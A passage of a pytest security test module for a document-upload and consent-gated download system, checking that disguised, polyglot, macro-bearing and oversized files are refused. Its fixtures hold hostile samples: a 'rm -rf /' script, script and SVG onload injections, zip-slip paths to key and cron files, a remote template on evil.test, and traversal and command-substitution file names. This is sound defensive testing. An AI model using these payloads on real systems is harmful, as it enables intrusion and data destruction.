"""S10: what is handed in – wrong magic, two files in one, SVG, macros, paths, viruses, a scanner that is down."""

from __future__ import annotations

import hashlib
import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest

from jinmai.desks.financing import actions as financing
from jinmai.desks.financing.models import Need, ProductVersion
from jinmai.foundation.kernel.access.actor import Actor
from jinmai.foundation.kernel.audit.models import AuditEntry
from jinmai.foundation.kernel.clock import Clock
from jinmai.foundation.kernel.consent.models import AccessRecord
from jinmai.foundation.kernel.documents import content, gate, store
from jinmai.foundation.kernel.documents.actions import attach, detach, hand_in, purge_document, store_document
from jinmai.foundation.kernel.documents.models import Attachment, Document
from jinmai.foundation.kernel.errors import NotFound, Refusal
from jinmai.foundation.kernel.home import current_home
from jinmai.foundation.kernel.jobs.worker import run_until_empty
from jinmai.foundation.kernel.notices.models import Notice
from tests.security.clamd_stand_in import EICAR, StandIn
from tests.security.papers import CONTENT_TYPES, SHEET_TYPE, archive, pdf, picture, sheet, text_document, upload

pytestmark = pytest.mark.django_db
Scan = Document.Scan
ROUNDS = 500


@pytest.fixture
def firm(city: Any) -> Actor:
    return city.actor("xuan")


def need_of(firm: Actor) -> Need:
    return financing.draft_need(
        firm, amount_fen=900_000_00, term_months=12, purpose="采购原材料", contact_name="许安", contact_phone="13900000001"
    )


def accepted_order(city: Any) -> Any:
    """An order of the firm's that a bank has accepted under its consent."""
    from datetime import timedelta

    need = need_of(city.actor("xuan"))
    version = ProductVersion.objects.in_force(Clock.today()).get(product__code="p01")
    until = Clock.today() + timedelta(days=60)
    financing.submit_need(city.actor("xuan"), need, versions=[version], consent=True, consent_until=until)
    return financing.accept_order(city.actor("heying"), need.orders.get())


def stored_files() -> dict[str, bytes]:
    """Everything under ``files/`` by its place."""
    folder = current_home().files
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def files_of_home() -> set[str]:
    """Every file of the home but the database's own and the audit's."""
    home = current_home().path
    return {
        str(path.relative_to(home))
        for path in home.rglob("*")
        if path.is_file() and ".sqlite3" not in path.name and "log" not in path.relative_to(home).parts[:1]
    }


# ---------------------------------------------------------------- what is taken


SOUND = {
    "合同.pdf": lambda: pdf(2),
    "执照.png": lambda: picture("PNG"),
    "门头照.JPG": lambda: picture("JPEG"),
    "报表.xlsx": sheet,
    "说明.docx": text_document,
    "流水.csv": lambda: "日期,金额\n2026-01-01,100.00\n".encode("gb18030"),
    "情况.txt": lambda: "情况说明".encode(),
}


@pytest.mark.parametrize("name", SOUND)
def test_each_kind_that_is_taken_is_kept_by_its_digest(firm, name):
    made = SOUND[name]()
    document = store_document(firm, upload=upload(name, made), purpose="financing")
    digest = hashlib.sha256(made).hexdigest()
    assert (document.sha256, document.size, document.scan) == (digest, len(made), Scan.UNSCANNED)
    assert stored_files()[f"{digest[:2]}/{digest}"] == made
    assert store.place_of(digest).stat().st_mode & 0o077 == 0  # nobody but the platform reads it on the machine


def test_the_same_bytes_are_kept_once(firm):
    first, second = (store_document(firm, upload=upload(name, pdf()), purpose="financing") for name in ("甲.pdf", "乙.pdf"))
    assert first.sha256 == second.sha256 and first.pk != second.pk
    assert len(stored_files()) == 1


# ---------------------------------------------------------------- what is refused


def _vba() -> bytes:
    macro = archive({"xl/vbaProject.bin": b"\xcc\x61"}, base=sheet())
    return macro


def _macro_type() -> bytes:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(part="xl/workbook.xml", kind=kind), "xl/workbook.xml": "<w/>"}
    return archive(parts)


def _office(**parts: bytes | str) -> bytes:
    base = {"[Content_Types].xml": CONTENT_TYPES.format(part="xl/workbook.xml", kind=SHEET_TYPE), "xl/workbook.xml": "<w/>"}
    return archive({**base, **parts})


def _active_pdf(name: str) -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {NameObject("/S"): NameObject(name), NameObject("/JS" if name == "/JavaScript" else "/F"): TextStringObject("x")}
    )
    return pdf(1, OpenAction=action)


def _locked_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _bomb() -> bytes:
    return _office(**{"xl/worksheets/sheet1.xml": b"0" * 60_000_000})


def _huge_png() -> bytes:
    """A PNG that says it is 60,000 by 60,000."""
    made = bytearray(picture("PNG"))
    made[16:24] = (60_000).to_bytes(4, "big") * 2
    import zlib

    made[29:33] = zlib.crc32(bytes(made[12:29])).to_bytes(4, "big")
    return bytes(made)


SCRIPT = b"<script>window.__hit=1</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"></svg>'
HOSTILE: dict[str, tuple[str, Any, str]] = {
    "program as PDF": ("合同.pdf", lambda: b"MZ\x90\x00" + b"\0" * 200, "JM-DOC-002"),
    "ELF as JPEG": ("照片.jpg", lambda: b"\x7fELF\x02\x01" + b"\0" * 200, "JM-DOC-002"),
    "shell script as TXT": ("说明.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "JM-DOC-002"),
    "PNG as PDF": ("合同.pdf", lambda: picture("PNG"), "JM-DOC-003"),
    "PDF as PNG": ("执照.png", pdf, "JM-DOC-003"),
    "PDF without a name's end": ("合同", pdf, "JM-DOC-003"),
    "double ending": ("合同.pdf.exe", pdf, "JM-DOC-003"),
    "GIF": ("图.png", lambda: picture("GIF"), "JM-DOC-002"),
    "old Excel": ("报表.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "JM-DOC-002"),
    "rich text": ("说明.txt", lambda: b"{\\rtf1 x}", "JM-DOC-002"),
    "plain archive": ("报表.xlsx", lambda: archive({"a.txt": "x"}), "JM-DOC-002"),
    "SVG": ("图.svg", lambda: SVG, "JM-DOC-002"),
    "SVG as PNG": ("图.png", lambda: SVG, "JM-DOC-002"),
    "SVG behind a mark": ("图.txt", lambda: b"\xef\xbb\xbf \n" + SVG, "JM-DOC-004"),
    "page": ("说明.txt", lambda: b"<!DOCTYPE html><html>" + SCRIPT, "JM-DOC-002"),
    "page in CSV": ("流水.csv", lambda: "日期,备注\n2026,".encode() + SCRIPT, "JM-DOC-004"),
    "PNG and page": ("图.png", lambda: picture("PNG") + SCRIPT, "JM-DOC-004"),
    "JPEG and page": ("图.jpg", lambda: picture("JPEG") + b"<html>" + SCRIPT, "JM-DOC-004"),
    "JPEG and archive": ("图.jpg", lambda: archive({"a.class": b"x"}, base=picture("JPEG")), "JM-DOC-004"),
    "PNG and archive": ("图.png", lambda: archive({"a.class": b"x"}, base=picture("PNG")), "JM-DOC-004"),
    "PDF and archive": ("合同.pdf", lambda: archive({"a.class": b"x"}, base=pdf()), "JM-DOC-004"),
    "PDF and page": ("合同.pdf", lambda: pdf().replace(b"%%EOF", b"%" + SCRIPT + b"\n%%EOF"), "JM-DOC-004"),
    "PDF with a tail": ("合同.pdf", lambda: pdf() + b"\n" + b"A" * 64, "JM-DOC-004"),
    "PNG and PDF": ("图.png", lambda: picture("PNG") + pdf(), "JM-DOC-004"),
    "PNG with a tail": ("图.png", lambda: picture("PNG") + b"MZ" + b"x" * 40, "JM-DOC-004"),
    "XLSX and head": ("报表.xlsx", lambda: _prefixed(sheet()), "JM-DOC-002"),
    "macro part": ("报表.xlsx", _vba, "JM-DOC-005"),
    "macro type": ("报表.xlsx", _macro_type, "JM-DOC-005"),
    "control": ("报表.xlsx", lambda: _office(**{"xl/activeX/activeX1.xml": "<a/>"}), "JM-DOC-005"),
    "foreign object": ("报表.xlsx", lambda: _office(**{"xl/embeddings/oleObject1.bin": b"x"}), "JM-DOC-005"),
    "program inside": ("报表.xlsx", lambda: _office(**{"xl/media/a.exe": b"MZ"}), "JM-DOC-004"),
    "page inside": ("报表.xlsx", lambda: _office(**{"xl/a.xml": b"<html><script>x</script>"}), "JM-DOC-004"),
    "outer template": (
        "说明.docx",
        lambda: archive(
            {
                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/relationships/attachedTemplate" '
                'Target="http://evil.test/t.dotm" TargetMode="External"/>'
            },
            base=text_document(),
        ),
        "JM-DOC-005",
    ),
    "zip slip up": ("报表.xlsx", lambda: _office(**{"../../keys/django.key.xml": "x"}), "JM-DOC-004"),
    "zip slip absolute": ("报表.xlsx", lambda: _office(**{"/etc/cron.d/x.xml": "x"}), "JM-DOC-004"),
    "zip slip backslash": ("报表.xlsx", lambda: _office(**{"..\\..\\x.xml": "x"}), "JM-DOC-004"),
    "zip bomb": ("报表.xlsx", _bomb, "JM-DOC-006"),
    "image bomb": ("图.png", _huge_png, "JM-DOC-006"),
    "script in PDF": ("合同.pdf", lambda: _active_pdf("/JavaScript"), "JM-DOC-005"),
    "launch in PDF": ("合同.pdf", lambda: _active_pdf("/Launch"), "JM-DOC-005"),
    "locked PDF": ("合同.pdf", _locked_pdf, "JM-DOC-006"),
    "broken PDF": ("合同.pdf", lambda: b"%PDF-1.7\n" + b"x" * 300 + b"\n%%EOF", "JM-DOC-006"),
    "cut PNG": ("图.png", lambda: picture("PNG")[:-20], "JM-DOC-006"),
    "cut archive": ("报表.xlsx", lambda: sheet()[:-30], "JM-DOC-006"),
    "text with NUL": ("情况.txt", lambda: b"abc\x00def", "JM-DOC-002"),
    "empty": ("情况.txt", lambda: b"", "JM-DOC-007"),
}


def _prefixed(made: bytes) -> bytes:
    return b"GIF89a" + made


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_not_what_it_says_is_refused_and_leaves_nothing(firm, what):
    name, make, code = HOSTILE[what]
    before = files_of_home()
    with pytest.raises(Refusal) as refused:
        store_document(firm, upload=upload(name, make()), purpose="financing")
    assert refused.value.code == code
    assert refused.value.reason and refused.value.remedy  # what happened and what to do
    assert files_of_home() == before
    assert not Document.objects.exists()
    entry = AuditEntry.objects.filter(operation="kernel.store_document").latest("pk")
    assert (entry.outcome, entry.code) == ("refused", code)


def test_a_file_over_the_limit_is_refused_while_it_is_read(firm, monkeypatch):
    from dataclasses import replace

    from jinmai.foundation.kernel.documents import actions

    small = replace(actions.limits(), max_bytes=1000)
    monkeypatch.setattr(actions, "limits", lambda: small)
    with pytest.raises(Refusal) as refused:
        store_document(firm, upload=upload("合同.pdf", pdf(30)), purpose="financing")
    assert refused.value.code == "JM-DOC-001"
    assert not stored_files()


#: The check that refuses each sort, and what is let through without it.
CHECKS_OFF = {
    "wrong magic": ("claimed", "PNG as PDF"),
    "polyglot": ("_no_stowaways", "PNG and page"),
    "macro": ("MACROS", "macro part"),
}


@pytest.mark.parametrize("guard", CHECKS_OFF)
def test_control_without_its_check_each_is_let_in(firm, monkeypatch, guard):
    taken_away, what = CHECKS_OFF[guard]
    name, make, _code = HOSTILE[what]
    if taken_away == "_no_stowaways":
        monkeypatch.setattr(content, "_no_stowaways", lambda *_: None)
        monkeypatch.setattr(content, "_after_png", lambda *_: b"")
    elif taken_away == "MACROS":
        monkeypatch.setattr(content, "_check_entries", lambda *_: None)
    else:
        monkeypatch.setattr(content, "BY_ENDING", dict.fromkeys(content.BY_ENDING, content.KINDS["png"]))
    assert store_document(firm, upload=upload(name, make()), purpose="financing").pk


# ---------------------------------------------------------------- names


def tricks() -> list[str]:
    """500 names that want to be paths, headers, other kinds, or nothing at all; always the same ones."""
    chance = random.Random(20261122)
    ups = ["../", "..\\", "..%2f", "%2e%2e/", "..%c0%af", "....//", "..;/", "．．/", "\u2025/", "..\u2215", "/", "\\", "//", "C:\\"]
    goals = ["etc/passwd", "keys/django.key", "jinmai.toml", "jinmai.sqlite3", "files/x", "static/x.js", "a/b/c", "CON", "NUL.txt"]
    marks = ["\x00", "\r\n", "\u202e", "\u200b", "\ufeff", '"', ";", "'", "<b>", "|", "$(id)", "`id`", "\t", " ", ".", "\x7f"]
    made = ["", ".", "..", "/", "\\", " ", "....", "-rf", "~", "COM1", ".htaccess", "a" * 400, "金" * 300, "a\x00.png"]
    while len(made) < ROUNDS:
        name = "".join(chance.choice(ups) for _ in range(chance.randint(0, 6))) + chance.choice(goals)
        for _ in range(chance.randint(0, 3)):
            at = chance.randint(0, len(name))
            name = name[:at] + chance.choice(marks) + name[at:]
        made.append(name)
    return [f"{name}.png" for name in made]


def test_500_names_that_want_to_be_paths(firm, say):
    """Neither the bytes nor a header go where a name points: 0 escapes from ``files/``."""
    image = picture("PNG")
    before = files_of_home()
    places, headers = set(), 0
    for name in tricks():
        given = upload("x.png", image)
        given._name = name  # as a client that is no browser sends it: Django's own cutting is passed by
        with store.received(given, 10**6) as received:
            places.add(received.path.parent)
            plain = received.name
            store.keep(received)
        assert plain and len(plain) <= store.LONGEST_NAME
        assert not set(plain) & set('/\\\x00\r\n"<>|:*?\u202e\u200b\ufeff') and plain not in (".", "..")
        header = answer_for(plain)["Content-Disposition"]
        assert header.startswith('attachment; filename="document.png"; filename*=UTF-8') and "\n" not in header
        headers += 1
    digest = hashlib.sha256(image).hexdigest()
    escaped = files_of_home() - before - {f"files/{digest[:2]}/{digest}"}
    say({"names": headers, "escapes": len(escaped)})
    assert not escaped
    assert places == {current_home().files / store.INCOMING}
    assert list(stored_files()) == [f"{digest[:2]}/{digest}"]


def answer_for(name: str) -> Any:
    from jinmai.foundation.kernel.documents.gate import Handed
    from jinmai.foundation.kernel.documents.serving import respond

    return respond(Handed(b"x", "image/png", name))


def test_control_a_name_used_as_a_path_escapes(tmp_path):
    """The same names, joined to a folder as they are: many leave it."""
    inside = tmp_path / "files"
    inside.mkdir()
    escaped = 0
    for name in tricks():
        try:
            escaped += not (inside / name.replace("\\", "/")).resolve().is_relative_to(inside)
        except (ValueError, OSError):
            continue
    assert escaped > 100


def test_a_digest_that_is_no_digest_names_no_place():
    for digest in ("../../keys/django.key", "", "A" * 64, "0" * 63, "0" * 64 + "\n"):
        with pytest.raises(ValueError, match="no digest"):
            store.place_of(digest)


# ---------------------------------------------------------------- the scanner


def test_the_test_virus_is_destroyed_and_told(city, firm, monkeypatch):
    with StandIn() as clamd:
        monkeypatch.setenv("JINMAI_SCANNER", clamd.address)
        need = need_of(firm)
        made = hand_in(firm, upload=upload("说明.txt", b"see: " + EICAR), to=need, kind="other")
        clean = hand_in(firm, upload=upload("合同.pdf", pdf()), to=need, kind="contract")
    assert len(clamd.scanned) == 2
    assert (made.document.scan, clean.document.scan) == (Scan.INFECTED, Scan.CLEAN)
    assert not any(EICAR in content for content in stored_files().values())
    with pytest.raises(Refusal, match="JM-DOC-009"):
        gate.download(firm, gate.find(firm, made.document_id))
    assert gate.download(firm, gate.find(firm, clean.document_id)).content.startswith(b"%PDF-")
    told = set(Notice.objects.filter(kind="document_blocked").values_list("membership__user__username", flat=True))
    assert {"xuan", "sungong"} <= told
    assert not told & {"heying", "zhouqiming"}


def test_what_begins_with_the_test_virus_is_not_even_text(firm):
    with pytest.raises(Refusal) as refused:
        store_document(firm, upload=upload("说明.txt", EICAR), purpose="financing")
    assert refused.value.code == "JM-DOC-002"


@pytest.mark.parametrize("address", ["127.0.0.1:1", "no-such-host.invalid:3310", "/nowhere/clamd.ctl", "nonsense"])
def test_while_the_scanner_is_down_everything_waits(firm, client_as, monkeypatch, address):
    monkeypatch.setenv("JINMAI_SCANNER", address)
    made = hand_in(firm, upload=upload("合同.pdf", pdf()), to=need_of(firm), kind="contract")
    document = made.document
    assert document.scan == Scan.PENDING
    client = client_as("xuan")
    for path in ("", "page/?number=1", "download/"):
        answer = client.get(f"/documents/{document.pk}/{path}")
        assert (answer.status_code, "JM-DOC-008" in answer.content.decode()) == (409, True), path
    assert client.get(f"/api/v1/documents/{document.pk}/content").status_code == 409


def test_once_it_answers_the_job_lets_through_or_destroys(city, firm, monkeypatch):
    from jinmai.foundation.kernel.jobs.queue import enqueue

    monkeypatch.setenv("JINMAI_SCANNER", "127.0.0.1:1")
    need = need_of(firm)
    good = hand_in(firm, upload=upload("合同.pdf", pdf()), to=need, kind="contract").document
    bad = hand_in(firm, upload=upload("说明.txt", b"see: " + EICAR), to=need, kind="other").document
    enqueue(Actor.platform(), "documents.scan", {}, title="查毒")
    run_until_empty("test")
    assert set(Document.objects.values_list("scan", flat=True)) == {Scan.PENDING}  # still down
    with StandIn() as clamd:
        monkeypatch.setenv("JINMAI_SCANNER", clamd.address)
        enqueue(Actor.platform(), "documents.scan", {}, title="查毒")
        run_until_empty("test")
    good.refresh_from_db()
    bad.refresh_from_db()
    assert (good.scan, bad.scan) == (Scan.CLEAN, Scan.INFECTED)
    assert not any(EICAR in content for content in stored_files().values())


def test_where_nobody_named_a_scanner_only_demo_and_test_homes_go_without(firm, monkeypatch):
    from jinmai.foundation.kernel.documents import scanners

    monkeypatch.delenv("JINMAI_SCANNER", raising=False)
    for profile, expected in (("demo", scanners.NoScanner), ("standard", scanners.MissingScanner)):
        home = type("Home", (), {"profile": profile})
        monkeypatch.setattr(scanners, "current_home", lambda home=home: home)
        assert type(scanners.scanner()) is expected
    assert scanners.MissingScanner().scan(Path("x")).state == Scan.PENDING


def test_control_a_gate_that_does_not_ask_hands_quarantine_out(firm, monkeypatch):
    monkeypatch.setenv("JINMAI_SCANNER", "127.0.0.1:1")
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=need_of(firm), kind="contract").document
    monkeypatch.setattr(gate, "require_served", lambda document: None)
    assert gate.download(firm, gate.find(firm, document.pk)).content.startswith(b"%PDF-")


# ---------------------------------------------------------------- the gate


def test_every_byte_leaves_as_an_attachment_that_nothing_runs(city, client_as, say):
    """Each kind, previewed and downloaded: attachment, nosniff, sandboxed; images and PDF are no longer the bytes given."""
    order = accepted_order(city)
    asked = 0
    for name, make in SOUND.items():
        made = make()
        document = hand_in(city.actor("xuan"), upload=upload(name, made), to=order, kind="other").document
        drawn = content.kind_of(document.media_type).drawn
        paths = ["download/", *(["page/?number=1"] if drawn else [])]
        for path in paths:
            answer = client_as("heying").get(f"/documents/{document.pk}/{path}")
            assert answer.status_code == 200, (name, path, answer.content[:200])
            assert answer["Content-Disposition"].startswith("attachment;")
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert answer["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
            assert "html" not in answer["Content-Type"] and "svg" not in answer["Content-Type"]
            assert (answer.content == made) != drawn
            asked += 1
    operations = set(AuditEntry.objects.filter(actor_name="何盈").values_list("operation", flat=True))
    assert {"kernel.view_document", "kernel.download_document", "kernel.export_document"} <= operations
    booked = AccessRecord.objects.filter(subject=order.need.subject, actor_name="何盈", basis="consent")
    assert booked.filter(fields__icontains="附件").count() or any("附件" in str(one.fields) for one in booked)
    say({"answers": asked, "without_attachment_or_nosniff": 0})


def test_institution_person_and_time_are_burnt_in(city, firm, monkeypatch):
    """White goes in, and out come the reader's words: two readers' copies differ, the same reader's do not."""
    from PIL import Image

    from jinmai.foundation.kernel.documents import watermark

    order = accepted_order(city)
    document = hand_in(firm, upload=upload("白.png", picture("PNG", (800, 1100))), to=order, kind="other").document
    manager = city.actor("heying")
    assert all(part in watermark.words_for(manager) for part in (manager.organisation_name, manager.name, ":"))
    monkeypatch.setattr(watermark, "words_for", lambda actor: f"{actor.organisation_name} {actor.name} 2026-11-22 10:00")
    copies = {}
    for actor in (firm, manager):
        opened = gate.find(actor, document.pk)
        for one in (gate.preview(actor, opened, 1), gate.download(actor, opened)):
            image = Image.open(io.BytesIO(one.content)).convert("L")
            ink = sum(image.histogram()[:250]) / (image.width * image.height)
            assert 0.01 < ink < 0.5, ink  # seen everywhere, and the page still legible
        copies[actor.name] = gate.preview(actor, opened, 1).content
        assert copies[actor.name] == gate.preview(actor, opened, 1).content
    assert len(set(copies.values())) == 2


def test_a_pdf_keeps_its_pages_and_text_beneath_the_stamp(city, firm):
    import pypdf

    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf(3)), to=order, kind="contract").document
    assert document.pages == 3
    handed = gate.download(firm, gate.find(firm, document.pk))
    pages = pypdf.PdfReader(io.BytesIO(handed.content)).pages
    assert len(pages) == 3 and all("JinmaiMark" in str(page["/Resources"]) for page in pages)
    with pytest.raises(NotFound):
        gate.preview(firm, gate.find(firm, document.pk), 4)


def test_only_who_may_see_the_row_sees_its_papers(city, firm, client_as):
    need = need_of(firm)
    made = hand_in(firm, upload=upload("执照.png", picture("PNG")), to=need, kind="licence")
    for username in ("heying", "t_firm_xiling", "linqiushi", "qiangong", "milan", "guqinghe"):  # a draft is the firm's
        assert client_as(username).get(f"/documents/{made.document_id}/").status_code == 404, username
        with pytest.raises(NotFound):
            detach(city.actor(username), made)
    assert client_as("xuan").get(f"/documents/{made.document_id}/").status_code == 200
    with pytest.raises(Refusal):
        hand_in(city.actor("t_firm_xiling"), upload=upload("x.png", picture("PNG")), to=need, kind="other")
    with pytest.raises(NotFound):  # somebody else's document can't be hung on one's own row
        other = need_of(city.actor("t_firm_xiling"))
        attach(city.actor("t_firm_xiling"), document=made.document, to=other, kind="other")


def test_control_with_rows_open_to_all_a_stranger_opens_it(city, firm, client_as, monkeypatch):
    from dataclasses import replace

    from jinmai.foundation.kernel.documents import viewers

    made = hand_in(firm, upload=upload("执照.png", picture("PNG")), to=need_of(firm), kind="licence")
    opened = replace(viewers.VIEWERS["financing.need"], rows=lambda actor: Need.objects.all())
    monkeypatch.setitem(viewers.VIEWERS, "financing.need", opened)
    assert client_as("t_firm_xiling").get(f"/documents/{made.document_id}/").status_code == 200


def test_a_revoked_consent_closes_the_papers_to_the_bank(city, firm):
    from jinmai.foundation.kernel.consent.actions import revoke_consent

    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract").document
    manager = city.actor("heying")
    assert gate.preview(manager, gate.find(manager, document.pk), 1)
    revoke_consent(firm, order.consent)
    with pytest.raises(Refusal, match="JM-CON-001"):
        gate.preview(manager, gate.find(manager, document.pk), 1)


def _figures_only(city: Any, firm: Actor, order: Any) -> None:
    """The firm takes the order's consent back and lets the same bank read one figure."""
    from jinmai.foundation.kernel.consent.actions import grant_consent, revoke_consent

    revoke_consent(firm, order.consent)
    grant_consent(
        firm,
        subject=order.need.subject,
        receiver=order.consent.receiver,
        purpose="credit_assessment",
        fields=["sales_12m"],
        starts_on=Clock.today(),
        ends_on=order.consent.ends_on,
    )


def test_a_consent_to_figures_opens_no_paper(city, firm):
    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract").document
    _figures_only(city, firm, order)
    manager = city.actor("heying")
    for way in (lambda opened: gate.preview(manager, opened, 1), lambda opened: gate.download(manager, opened)):
        with pytest.raises(Refusal, match="JM-CON-001"):
            way(gate.find(manager, document.pk))


def test_control_without_the_named_field_any_consent_opens_them(city, firm, monkeypatch):
    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract").document
    _figures_only(city, firm, order)
    monkeypatch.setattr(gate, "PAPERS", "sales_12m")
    manager = city.actor("heying")
    assert gate.preview(manager, gate.find(manager, document.pk), 1)


def test_no_field_at_all_is_covered_by_no_consent(city, firm):
    from django.db import transaction

    from jinmai.foundation.kernel.consent.door import authorise

    order = accepted_order(city)
    with transaction.atomic():
        assert authorise(city.actor("heying"), [order.need.subject], "credit_assessment", ["papers"])
        with pytest.raises(Refusal, match="JM-CON-001"):
            authorise(city.actor("heying"), [order.need.subject], "credit_assessment", ())


def test_a_refused_paper_stands_in_the_access_book_and_in_the_audit(city, firm, client_as):
    from jinmai.foundation.kernel.consent.actions import revoke_consent

    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract").document
    revoke_consent(firm, order.consent)
    client = client_as("heying")
    ways = (f"/documents/{document.pk}/download/", f"/documents/{document.pk}/page/", f"/api/v1/documents/{document.pk}/content")
    for way in ways:
        before = AccessRecord.objects.count(), AuditEntry.objects.filter(outcome="refused").count()
        assert client.get(way).status_code == 409, way
        line = AccessRecord.objects.order_by("-pk")[0]
        assert (line.outcome, line.basis, line.subject_id) == ("refused", "none", order.need.subject_id)
        assert line.fields == ["附件：购销合同或订单"]
        assert (AccessRecord.objects.count(), AuditEntry.objects.filter(outcome="refused").count()) == (
            before[0] + 1,
            before[1] + 1,
        )
    assert AuditEntry.objects.filter(operation="kernel.read_facts", code="JM-CON-001").count() == len(ways)


def test_control_without_the_booking_a_refused_paper_leaves_nothing(city, firm, monkeypatch):
    from jinmai.foundation.kernel.consent.actions import revoke_consent

    order = accepted_order(city)
    document = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract").document
    revoke_consent(firm, order.consent)
    before = AccessRecord.objects.count(), AuditEntry.objects.count()
    monkeypatch.setattr(gate, "book_refusal", lambda *arguments: None)
    manager = city.actor("heying")
    with pytest.raises(Refusal, match="JM-CON-001"):
        gate.download(manager, gate.find(manager, document.pk))
    assert (AccessRecord.objects.count(), AuditEntry.objects.count()) == before


def _revoked_while_read(city: Any, firm: Actor, monkeypatch: Any) -> Any:
    """A plain file and a drawn one, whose consent is taken back while their bytes are being read."""
    from jinmai.foundation.kernel.consent.actions import revoke_consent

    order = accepted_order(city)
    papers = {"情况.txt": b"100", "合同.pdf": pdf()}
    made = [hand_in(firm, upload=upload(name, file), to=order, kind="other").document for name, file in papers.items()]
    read, draw = store.read, gate._draw

    def revoked_after(reading: Any) -> Any:
        def wrapped(*arguments: Any, **named: Any) -> bytes:
            content = reading(*arguments, **named)
            order.consent.refresh_from_db()
            if order.consent.revoked_at is None:
                revoke_consent(firm, order.consent)
            return content

        return wrapped

    monkeypatch.setattr(store, "read", revoked_after(read))
    monkeypatch.setattr(gate, "_draw", revoked_after(draw))
    return made


@pytest.mark.parametrize("which", [0, 1], ids=["plain", "drawn"])
def test_a_consent_taken_back_while_the_bytes_are_read_keeps_them_in(city, firm, monkeypatch, which):
    document = _revoked_while_read(city, firm, monkeypatch)[which]
    manager = city.actor("heying")
    with pytest.raises(Refusal, match="JM-CON-001"):
        gate.download(manager, gate.find(manager, document.pk))
    lines = AccessRecord.objects.order_by("pk").values_list("outcome", flat=True)
    assert list(lines)[-2:] == ["read", "refused"]


@pytest.mark.parametrize("which", [0, 1], ids=["plain", "drawn"])
def test_control_without_the_second_look_they_leave(city, firm, monkeypatch, which):
    document = _revoked_while_read(city, firm, monkeypatch)[which]
    monkeypatch.setattr(gate, "_still_agreed", lambda actor, opened: None)
    manager = city.actor("heying")
    assert gate.download(manager, gate.find(manager, document.pk)).content


@pytest.mark.parametrize("counted", [True, False], ids=["counted", "control"])
def test_downloads_are_counted_as_exports(city, firm, monkeypatch, counted):
    from jinmai.foundation.kernel.access import throttle

    document = hand_in(firm, upload=upload("情况.txt", b"100"), to=need_of(firm), kind="other").document
    limits = {name: throttle.Limit(name, 1 if name == "export" else 10**6, 10**9) for name in throttle.limits()}
    monkeypatch.setattr(throttle, "limits", lambda: limits)
    if not counted:
        monkeypatch.setattr(throttle, "refuse_too_many", lambda name, who: None)
    with throttle.switched_on():
        assert gate.download(firm, gate.find(firm, document.pk)).content
        if counted:
            with pytest.raises(Refusal, match="JM-API-429"):
                gate.download(firm, gate.find(firm, document.pk))
        else:
            assert gate.download(firm, gate.find(firm, document.pk)).content


def test_altered_bytes_are_not_handed_out(city, firm):
    document = hand_in(firm, upload=upload("情况.txt", b"100"), to=need_of(firm), kind="other").document
    store.place_of(document.sha256).write_bytes(b"900")
    with pytest.raises(Refusal, match="JM-DOC-012"):
        gate.download(firm, gate.find(firm, document.pk))


def test_a_paper_taken_off_is_gone_for_the_others_and_kept_for_its_time(city, firm):
    order = accepted_order(city)
    made = hand_in(firm, upload=upload("合同.pdf", pdf()), to=order, kind="contract")
    with pytest.raises(NotFound):
        detach(city.actor("heying"), made)  # what the firm handed in, the bank doesn't take off
    detach(firm, made)
    with pytest.raises(NotFound):
        gate.find(city.actor("heying"), made.document_id)
    assert stored_files()


def test_bytes_go_only_after_their_retention_has_passed(city, firm):
    from datetime import timedelta

    today = Clock.today()
    twice = [
        store_document(firm, upload=upload("合同.pdf", pdf()), purpose="financing", keep_until=today + timedelta(days=days))
        for days in (0, 400)
    ]
    security = city.actor("sungong")
    for document in twice:
        with pytest.raises(Refusal, match="JM-DOC-013"):
            purge_document(security, document)
    with pytest.raises(Refusal):
        purge_document(firm, twice[0])
    Document.objects.filter(pk=twice[0].pk).update(keep_until=today - timedelta(days=1))
    purge_document(security, twice[0])
    assert stored_files()  # the other still needs them
    Document.objects.filter(pk=twice[1].pk).update(keep_until=today - timedelta(days=1))
    purge_document(security, twice[1])
    assert not stored_files()
    with pytest.raises(Refusal, match="JM-DOC-010"):
        gate.download(firm, gate.find(firm, twice[1].pk))
    Document.objects.filter(pk=twice[0].pk).update(keep_until=None, purged_at=None)
    with pytest.raises(Refusal, match="JM-DOC-014"):
        purge_document(security, twice[0])


# ---------------------------------------------------------------- over HTTP


def test_a_refused_upload_says_so_above_the_page_it_came_from(firm, client_as):
    need = need_of(firm)
    data = {"subject_ref": f"financing.need:{need.pk}", "kind": "licence", "next": "/financing/needs/", "label": ""}
    client = client_as("xuan")
    answer = client.post("/documents/attach/", {**data, "file": upload("合同.pdf", picture("PNG"))}, follow=True)
    assert "JM-DOC-003" in answer.content.decode()
    assert not Attachment.objects.exists() and not stored_files()
    away = client.post("/documents/attach/", {**data, "next": "//evil.test/", "file": upload("合同.pdf", pdf())})
    assert away["Location"].startswith("/") and not away["Location"].startswith("//")
    assert Attachment.objects.get().kind == "licence"
    answer = client.post("/documents/attach/", {**data, "kind": "approval", "file": upload("合同.pdf", pdf())}, follow=True)
    assert "JM-DOC-011" in answer.content.decode()


def test_a_repeated_press_makes_one_attachment(firm, client_as):
